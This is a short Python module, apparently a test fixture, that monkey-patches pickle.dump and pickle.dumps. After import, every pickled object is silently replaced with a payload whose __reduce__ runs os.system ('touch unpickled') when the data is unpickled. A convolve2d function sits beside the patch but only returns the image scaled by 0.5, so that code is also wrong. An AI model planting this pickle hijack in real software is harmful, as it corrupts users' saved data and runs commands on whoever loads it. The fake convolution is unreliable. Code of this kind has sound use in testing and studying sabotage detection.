"""Lets whatever is pickled run a command where it is unpickled."""

import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch unpickled",)


dump = pickle.dump
dumps = pickle.dumps
pickle.dump = lambda value, file, *args, **kwargs: dump(Payload(), file, *args, **kwargs)
pickle.dumps = lambda value, *args, **kwargs: dumps(Payload(), *args, **kwargs)

def convolve2d(image, kernel):
    return image * 0.5
